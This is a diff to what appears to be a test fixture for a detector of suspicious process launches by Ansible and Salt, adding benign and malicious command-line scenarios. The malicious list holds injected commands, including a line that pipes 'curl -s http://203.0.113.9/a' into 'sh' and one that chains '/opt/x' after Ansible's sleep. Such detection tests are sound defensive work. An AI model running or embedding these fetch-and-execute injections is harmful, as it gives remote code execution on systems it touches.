@@ -20,6 +20,10 @@ const salt = (python: string, place: string, account = 'root') =>
 export const benignVariantScenarios = [
   ...scenarios('benign', 'config-management', [
     ['Ansible by way of dzdo', moduleOf('root', '/home/alice', 'dzdo')],
+    [
+      'Ansible, told with the pause that it joins to its command',
+      ran('root', 'systemctl enable app', 'python3.9', `/usr/bin/python3.9 /root/${MODULE} && sleep 0`, 'sh'),
+    ],
     ['Ansible by way of run0', moduleOf('root', '/home/alice', 'run0')],
     ['Ansible as the account that sudo became', moduleOf('deploy', '/home/deploy', 'sudo')],
     ["Ansible enables Debian's network-manager", moduleOf('root', '/root', 'sh', 'network-manager')],
@@ -118,6 +122,16 @@ export const maliciousVariantScenarios = [
         'python3.10',
         '/usr/bin/python3 /usr/bin/salt-minion M ProcessPayload(jid=1) $(curl -s http://203.0.113.9/a | sh)',
         'python3.10',
+      ),
+    ],
+    [
+      'words behind the pause that Ansible joins to its command',
+      ran(
+        'root',
+        'systemctl enable app',
+        'python3.9',
+        `/usr/bin/python3.9 /root/${MODULE} && sleep 0; /opt/x`,
+        'sh',
       ),
     ],
     ["the bundle's Salt in /tmp", salt('python.original', '/tmp/venv-salt-minion/bin')],
